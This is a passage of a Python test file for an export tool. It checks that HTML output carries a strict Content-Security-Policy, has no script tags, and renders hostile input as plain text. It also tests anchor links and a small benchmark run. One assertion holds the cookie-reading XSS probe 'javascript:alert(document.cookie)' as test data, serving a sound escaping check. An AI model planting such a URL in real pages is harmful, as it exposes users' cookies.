    csp = "default-src 'none'; style-src 'unsafe-inline'"
    assert ("meta", {"http-equiv": "Content-Security-Policy", "content": csp}) in page.tags
    text = "".join(page.text)
    assert SCRIPT_TEXT in text  # shown as the words they are
    assert HOSTILE_TEXT in text
    assert "<script>" not in source and "</script>" not in source
    if collection is None:
        assert "javascript:alert(document.cookie)" in text  # the address, as text only
    else:
        assert "Check | first\nthen run" in text


def test_html_statement_ids_are_anchors_the_page_links_to(desk: FixtureDesk) -> None:
    page = _page(render(desk, "html"))
    ids = {attrs["id"] for _, attrs in page.tags if attrs.get("id")}
    targets = {attrs["href"][1:] for _, attrs in page.tags if (attrs.get("href") or "")[:1] == "#"}
    assert targets and targets <= ids


# --------------------------------------------------------------------------- benchmark


@pytest.mark.sqlite_only(reason="the benchmark builds and reads its own SQLite desk")
def test_export_benchmark_runs_at_a_tiny_size(tmp_path: Path) -> None:
    """bench/export.py end to end on a tiny desk, so it cannot rot between the runs that
    matter (no timing asserted)."""
    bench = Path(__file__).resolve().parent.parent / "bench" / "export.py"
    desk = tmp_path / "export-bench.db"
    proc = subprocess.run(
        [sys.executable, str(bench), "--statements", "300", "--formats", "md,csv",
         "--desk", str(desk)],
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    header = next(line for line in lines if line.startswith("export "))
    for column in ("seconds", "vs base", "RSS Δ MB", "file MB"):
        assert column in header
    for name in ("baseline: SELECT+dumps", "md (whole desk)", "csv (whole desk)",
                 "md (collection)", "csv (collection)"):  # fmt: skip
        row = next(line for line in lines if line.startswith(name))
        assert "300 statements" in row, row
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith("export-bench-")] == []
